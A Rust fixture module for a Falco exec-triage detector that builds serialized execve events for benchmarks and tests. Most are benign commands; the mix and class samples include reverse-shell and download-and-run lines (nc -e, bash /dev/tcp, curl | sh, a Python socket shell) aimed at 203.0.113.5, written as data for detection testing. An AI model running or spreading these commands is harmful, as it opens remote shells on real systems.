//! The execs the hot path is measured on, defined once for the criterion benches, the
//! `falco-triage bench` command, the profiling example, the soak and the runner tests.
//!
//! [`mix`] is a small representative mix (benign majority, a few attacks); [`classes`] has
//! one sample per stress class (benign, reverse shell, long `sh -c` pipeline, ~1 MiB argv,
//! 10k-stage pipeline). Every sample is a real serialized execve exit event, so decode, the
//! analysis and the plugin all see the same bytes.
//!
//! Not here: labels or expected verdicts (the labelled corpus lives with the tests), timing.

use crate::analysis::{Ancestor, Lineage};
use crate::facts::{self, DecodeLimits, ExecFacts};
use falco_event::events::{Event, EventMetadata, EventToBytes, RawEvent};
use falco_event::types::{Fd, Gid, Pid, SyscallResult, SystemTime, Uid};
use falco_event_schema::events::{PPME_SYSCALL_EXECVE_19_X, PPME_SYSCALL_OPEN_X};
use falco_event_schema::fields::types::{PT_FLAGS32_execve_flags, PT_FLAGS32_file_flags};
use std::ffi::CString;
use typed_path::UnixPath;

/// A full docker container id, in the cgroups of the container samples.
pub const CONTAINER_ID: &str = "3f5e1e9a4b2c7d8e9f00112233445566778899aabbccddeeff00112233445566";

/// An execve exit event with every parameter absent, as an old or cut capture gives it
/// (the schema type has no `Default`); tests set the parameters they need.
pub fn empty_execve<'a>() -> PPME_SYSCALL_EXECVE_19_X<'a> {
    PPME_SYSCALL_EXECVE_19_X {
        res: None,
        exe: None,
        args: None,
        tid: None,
        pid: None,
        ptid: None,
        cwd: None,
        fdlimit: None,
        pgft_maj: None,
        pgft_min: None,
        vm_size: None,
        vm_rss: None,
        vm_swap: None,
        comm: None,
        cgroups: None,
        env: None,
        tty: None,
        vpgid: None,
        loginuid: None,
        flags: None,
        cap_inheritable: None,
        cap_permitted: None,
        cap_effective: None,
        exe_ino: None,
        exe_ino_ctime: None,
        exe_ino_mtime: None,
        uid: None,
        trusted_exepath: None,
        pgid: None,
        gid: None,
    }
}

/// An execve exit event to serialize: the parameters that vary, with realistic values for the
/// rest (see [`ExecEvent::to_bytes`]).
#[derive(Debug, Clone)]
pub struct ExecEvent {
    pub ts: u64,
    pub tid: i64,
    pub ptid: i64,
    /// argv[0] as the kernel reports it (the `exe` parameter).
    pub exe: CString,
    /// argv[1..], each NUL-terminated.
    pub args: Vec<u8>,
    pub comm: CString,
    pub trusted_exepath: String,
    pub cwd: CString,
    /// `subsys=path` entries, each NUL-terminated.
    pub cgroups: Vec<u8>,
    pub env: Vec<u8>,
    pub tty: u32,
    pub flags: u32,
    pub cap_effective: u64,
    pub uid: u32,
    /// u32::MAX: no login session (as the kernel reports an unset loginuid).
    pub loginuid: u32,
}

/// Docker's default effective capability set.
const DOCKER_DEFAULT_CAPS: u64 = 0xa80425fb;

fn nul_joined<S: AsRef<str>>(items: &[S]) -> Vec<u8> {
    let mut out = Vec::new();
    for item in items {
        out.extend_from_slice(item.as_ref().as_bytes());
        out.push(0);
    }
    out
}

/// A C string of `s`, cut at the first NUL (our own literals have none).
fn c_string(s: &str) -> CString {
    let bytes = s.as_bytes();
    let end = bytes.iter().position(|&b| b == 0).unwrap_or(bytes.len());
    CString::new(&bytes[..end]).unwrap_or_default()
}

fn docker_cgroups() -> Vec<u8> {
    format!("cpuset=/docker/{CONTAINER_ID}\0memory=/docker/{CONTAINER_ID}\0").into_bytes()
}

impl ExecEvent {
    /// A root exec of `exe_path` with `argv` (argv[0] included), on the host, no terminal.
    pub fn new(ts: u64, tid: i64, ptid: i64, exe_path: &str, argv: &[&str]) -> Self {
        let argv0 = argv.first().copied().unwrap_or(exe_path);
        let comm = argv0.rsplit('/').next().unwrap_or(argv0);
        let comm: String = comm.chars().take(15).collect();
        ExecEvent {
            ts,
            tid,
            ptid,
            exe: c_string(argv0),
            args: nul_joined(argv.get(1..).unwrap_or_default()),
            comm: c_string(&comm),
            trusted_exepath: exe_path.to_string(),
            cwd: c"/root".to_owned(),
            cgroups: b"cpuset=/\0memory=/user.slice\0".to_vec(),
            env: b"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\0HOME=/root\0"
                .to_vec(),
            tty: 0,
            flags: 0,
            cap_effective: u64::MAX >> 23, // all 41 capabilities: root on the host
            uid: 0,
            loginuid: u32::MAX,
        }
    }

    /// The same exec inside a docker container (default capabilities), the binary shipped
    /// in the image.
    pub fn in_docker(mut self) -> Self {
        self.cgroups = docker_cgroups();
        self.flags = 0b1001; // EXE_WRITABLE | EXE_LOWER_LAYER
        self.cap_effective = DOCKER_DEFAULT_CAPS;
        self
    }

    /// `nc -e /bin/sh example.com 22` in a docker container, from a terminal, root, with
    /// CAP_SYS_ADMIN added, nc shipped in the image.
    pub fn nc(ts: u64, tid: i64, ptid: i64) -> Self {
        let mut nc = ExecEvent::new(
            ts,
            tid,
            ptid,
            "/usr/bin/nc.openbsd",
            &["nc", "-e", "/bin/sh", "example.com", "22"],
        )
        .in_docker();
        nc.env = b"PATH=/usr/bin\0HOME=/root\0".to_vec();
        nc.tty = 34816;
        nc.cap_effective = DOCKER_DEFAULT_CAPS | 1 << 21;
        nc
    }

    /// The serialized event, as a driver or capture would hand it over. Parameters longer
    /// than an event can carry (u16 lengths) are cut after their last whole entry.
    pub fn to_bytes(&self) -> Vec<u8> {
        let params = PPME_SYSCALL_EXECVE_19_X {
            res: Some(SyscallResult(0)),
            exe: Some(&self.exe),
            args: Some(fit(&self.args)),
            tid: Some(Pid(self.tid)),
            pid: Some(Pid(self.tid)),
            ptid: Some(Pid(self.ptid)),
            cwd: Some(&self.cwd),
            fdlimit: Some(1024),
            pgft_maj: Some(0),
            pgft_min: Some(120),
            vm_size: Some(2400),
            vm_rss: Some(900),
            vm_swap: Some(0),
            comm: Some(&self.comm),
            cgroups: Some(fit(&self.cgroups)),
            env: Some(fit(&self.env)),
            tty: Some(self.tty),
            vpgid: Some(Pid(self.tid)),
            loginuid: Some(Uid(self.loginuid)),
            flags: Some(PT_FLAGS32_execve_flags::from_bits_retain(self.flags)),
            cap_inheritable: Some(0),
            cap_permitted: Some(self.cap_effective),
            cap_effective: Some(self.cap_effective),
            exe_ino: Some(131_090),
            exe_ino_ctime: Some(SystemTime(1_700_000_000_000_000_000)),
            exe_ino_mtime: Some(SystemTime(1_690_000_000_000_000_000)),
            uid: Some(Uid(self.uid)),
            trusted_exepath: Some(UnixPath::new(&self.trusted_exepath)),
            pgid: Some(Pid(self.tid)),
            gid: Some(Gid(0)),
        };
        serialize(Event {
            metadata: EventMetadata {
                ts: self.ts,
                tid: self.tid,
            },
            params,
        })
    }
}

/// The longest prefix of NUL-terminated entries that fits a u16 parameter length.
fn fit(list: &[u8]) -> &[u8] {
    const MAX: usize = u16::MAX as usize;
    if list.len() <= MAX {
        return list;
    }
    let end = list[..MAX]
        .iter()
        .rposition(|&b| b == 0)
        .map_or(0, |i| i + 1);
    &list[..end]
}

fn serialize(event: impl EventToBytes) -> Vec<u8> {
    let mut buf = Vec::new();
    // Writing to a Vec cannot fail; an empty buffer would only fail to decode later.
    if event.write(&mut buf).is_err() {
        buf.clear();
    }
    buf
}

/// An `open` exit event: a syscall event the plugin must never analyse.
pub fn open_exit(ts: u64, tid: i64) -> Vec<u8> {
    let params = PPME_SYSCALL_OPEN_X {
        fd: Some(Fd(3)),
        name: Some(UnixPath::new("/etc/passwd")),
        flags: Some(PT_FLAGS32_file_flags::from_bits_retain(1)),
        mode: Some(0),
        dev: Some(0),
        ino: Some(0),
    };
    serialize(Event {
        metadata: EventMetadata { ts, tid },
        params,
    })
}

/// Decode a serialized execve exit event the way the plugin does. `None` when the bytes are
/// not one.
pub fn decode(raw: &[u8], limits: &DecodeLimits) -> Option<ExecFacts> {
    let raw = RawEvent::from(raw).ok()?;
    let event = raw.load::<PPME_SYSCALL_EXECVE_19_X>().ok()?;
    Some(facts::from_execve(&event.params, limits))
}

/// One measured exec: its event, and the facts and lineage the analysis gets.
#[derive(Debug, Clone)]
pub struct Sample {
    pub name: &'static str,
    /// Whether the exec is an attack (for the mix's proportions; not a label to test on).
    pub malicious: bool,
    /// The event's parameters, to rebuild it with other thread ids.
    pub spec: ExecEvent,
    pub event: Vec<u8>,
    pub facts: ExecFacts,
    pub lineage: Lineage,
}

fn ancestor(comm: &str, exe: &str, args: &[&str]) -> Ancestor {
    Ancestor {
        comm: comm.to_string(),
        exe: Some(exe.to_string()),
        args: args.iter().map(|a| a.to_string()).collect(),
    }
}

fn lineage(ancestors: Vec<Ancestor>) -> Lineage {
    Lineage {
        known: !ancestors.is_empty(),
        ancestors,
        earlier: None,
    }
}

fn interactive_shell() -> Lineage {
    lineage(vec![
        ancestor("bash", "/usr/bin/bash", &[]),
        ancestor("sshd", "/usr/sbin/sshd", &["-D"]),
        ancestor("systemd", "/usr/lib/systemd/systemd", &[]),
    ])
}

fn container_shell() -> Lineage {
    lineage(vec![
        ancestor("sh", "/bin/sh", &[]),
        ancestor(
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
            &["-namespace", "moby"],
        ),
        ancestor("systemd", "/usr/lib/systemd/systemd", &[]),
    ])
}

fn web_app() -> Lineage {
    lineage(vec![
        ancestor("node", "/usr/local/bin/node", &["server.js"]),
        ancestor(
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
            &["-namespace", "moby"],
        ),
    ])
}

fn cron() -> Lineage {
    lineage(vec![
        ancestor("cron", "/usr/sbin/cron", &["-f"]),
        ancestor("systemd", "/usr/lib/systemd/systemd", &[]),
    ])
}

/// A sample whose analysis gets `facts` as given, not decoded from its (possibly cut) event.
fn sample_with_facts(
    name: &'static str,
    malicious: bool,
    event: ExecEvent,
    facts: ExecFacts,
    lineage: Lineage,
) -> Sample {
    let spec = event;
    let event = spec.to_bytes();
    let mut full = decode(&event, &DecodeLimits::default()).unwrap_or_default();
    full.argv = facts.argv;
    full.argv_truncated = false;
    Sample {
        name,
        malicious,
        spec,
        event,
        facts: full,
        lineage,
    }
}

fn sample(
    name: &'static str,
    malicious: bool,
    event: ExecEvent,
    lineage: Lineage,
    limits: &DecodeLimits,
) -> Sample {
    let spec = event;
    let event = spec.to_bytes();
    let facts = decode(&event, limits).unwrap_or_default();
    Sample {
        name,
        malicious,
        spec,
        event,
        facts,
        lineage,
    }
}

/// The representative mix: 16 benign execs and 4 attacks, host and container, decoded with
/// the plugin's default limits.
pub fn mix() -> Vec<Sample> {
    let limits = DecodeLimits::default();
    let host = |argv: &[&str], exe: &str| ExecEvent::new(1, 4242, 4200, exe, argv);
    let docker = |argv: &[&str], exe: &str| ExecEvent::new(1, 4242, 4200, exe, argv).in_docker();
    let benign = |name, ev, lin| sample(name, false, ev, lin, &limits);
    let attack = |name, ev, lin| sample(name, true, ev, lin, &limits);
    let interactive = |mut ev: ExecEvent| {
        ev.tty = 34816;
        ev
    };
    vec![
        benign("ls", interactive(host(&["ls", "-la", "/var/log"], "/usr/bin/ls")), interactive_shell()),
        benign("git status", interactive(host(&["git", "status", "--short"], "/usr/bin/git")), interactive_shell()),
        benign("cat os-release", host(&["cat", "/etc/os-release"], "/usr/bin/cat"), interactive_shell()),
        benign("grep", interactive(host(&["grep", "-rn", "TODO", "src/"], "/usr/bin/grep")), interactive_shell()),
        benign("ps", host(&["ps", "aux"], "/usr/bin/ps"), interactive_shell()),
        benign("systemctl", host(&["systemctl", "status", "ssh"], "/usr/bin/systemctl"), interactive_shell()),
        benign("cron date", host(&["sh", "-c", "date +%s >> /var/log/heartbeat"], "/usr/bin/dash"), cron()),
        benign("logrotate", host(&["/usr/sbin/logrotate", "/etc/logrotate.conf"], "/usr/sbin/logrotate"), cron()),
        benign("healthcheck", docker(&["curl", "-fsS", "http://localhost:8080/healthz"], "/usr/bin/curl"), container_shell()),
        benign("java", docker(&["java", "-Xmx512m", "-jar", "/app/app.jar"], "/opt/java/openjdk/bin/java"), container_shell()),
        benign("node", docker(&["node", "server.js"], "/usr/local/bin/node"), container_shell()),
        benign("nginx", docker(&["nginx", "-g", "daemon off;"], "/usr/sbin/nginx"), container_shell()),
        benign("apt-get", docker(&["apt-get", "install", "-y", "--no-install-recommends", "ca-certificates"], "/usr/bin/apt-get"), container_shell()),
        benign("tar", host(&["tar", "xzf", "/backup/2024-06-01.tgz", "-C", "/srv"], "/usr/bin/tar"), cron()),
        benign("sh -c ps pipeline", host(&["sh", "-c", "ps aux | grep -v grep | grep nginx | wc -l"], "/usr/bin/dash"), cron()),
        benign("python manage", docker(&["python3", "manage.py", "migrate", "--noinput"], "/usr/bin/python3.11"), container_shell()),
        attack("nc -e", ExecEvent::nc(1, 4242, 4200), container_shell()),
        attack("bash /dev/tcp", docker(&["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"], "/usr/bin/bash"), web_app()),
        attack("curl | sh", docker(&["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"], "/bin/dash"), web_app()),
        attack(
            "python reverse shell",
            docker(
                &["python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])"],
                "/usr/bin/python3.11",
            ),
            web_app(),
        ),
    ]
}

/// A long but ordinary `sh -c` maintenance pipeline (~40 stages, ~1.5 KiB).
fn long_pipeline() -> String {
    let mut s = String::from("set -e; cd /var/log && ");
    for i in 0..10 {
        s.push_str(&format!(
            "cat app{i}.log | grep -v DEBUG | awk '{{print $5}}' | sort | uniq -c | sort -rn | head -20 > /tmp/top{i}.txt && "
        ));
    }
    s.push_str("find /tmp -name 'top*.txt' -mtime +7 -exec rm -f {} \\; ; echo done");
    s
}

/// The stress classes. `huge argv` (~1 MiB) and `10k-stage pipeline` (~70 KiB) are given to
/// the analysis whole, as `falco-triage explain` would: they show the analysis' own bounds.
/// Their events carry what an event can (u16 parameter lengths: < 64 KiB of args), which the
/// plugin then cuts to its 16 KiB default.
pub fn classes() -> Vec<Sample> {
    let limits = DecodeLimits::default();
    let pipeline = long_pipeline();
    let stages = vec!["true"; 10_000].join(" | ");
    // ~1 MiB: 10k file names of ~100 bytes for one `rm` (an xargs-style argv).
    let files: Vec<String> = (0..10_000)
        .map(|i| format!("/var/lib/app/cache/{i:08}/{}", "x".repeat(72)))
        .collect();
    let mut huge: Vec<&str> = vec!["rm", "-f"];
    huge.extend(files.iter().map(String::as_str));

    vec![
        sample(
            "benign",
            false,
            ExecEvent::new(1, 4242, 4200, "/usr/bin/ls", &["ls", "-la", "/var/log"]),
            interactive_shell(),
            &limits,
        ),
        sample(
            "reverse shell",
            true,
            ExecEvent::new(
                1,
                4242,
                4200,
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
            )
            .in_docker(),
            web_app(),
            &limits,
        ),
        sample(
            "sh -c pipeline",
            false,
            ExecEvent::new(1, 4242, 4200, "/usr/bin/dash", &["sh", "-c", &pipeline]),
            cron(),
            &limits,
        ),
        sample_with_facts(
            "huge argv",
            false,
            ExecEvent::new(1, 4242, 4200, "/usr/bin/rm", &huge),
            ExecFacts::from_argv(huge.iter().copied()),
            interactive_shell(),
        ),
        sample_with_facts(
            "10k-stage pipeline",
            true,
            ExecEvent::new(1, 4242, 4200, "/usr/bin/dash", &["sh", "-c", &stages]),
            ExecFacts::from_argv(["sh", "-c", stages.as_str()]),
            web_app(),
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_sample_decodes_to_its_argv() {
        for s in mix().iter().chain(&classes()) {
            assert!(
                decode(&s.event, &DecodeLimits::default()).is_some(),
                "{}",
                s.name
            );
            assert!(s.facts.argv.len() >= 2, "{}: {:?}", s.name, s.facts.argv);
            assert_eq!(s.facts.res, Some(0), "{}", s.name);
        }
        let classes = classes();
        let huge = &classes[3];
        let bytes: usize = huge.facts.argv.iter().map(String::len).sum();
        assert!(bytes > 1_000_000 && !huge.facts.argv_truncated, "{bytes}");
        assert_eq!(classes[4].facts.argv[2].matches(" | ").count(), 9_999);
    }

    #[test]
    fn the_mix_is_mostly_benign() {
        let mix = mix();
        let attacks = mix.iter().filter(|s| s.malicious).count();
        assert!(
            attacks > 0 && attacks * 4 <= mix.len(),
            "{attacks}/{}",
            mix.len()
        );
    }
}
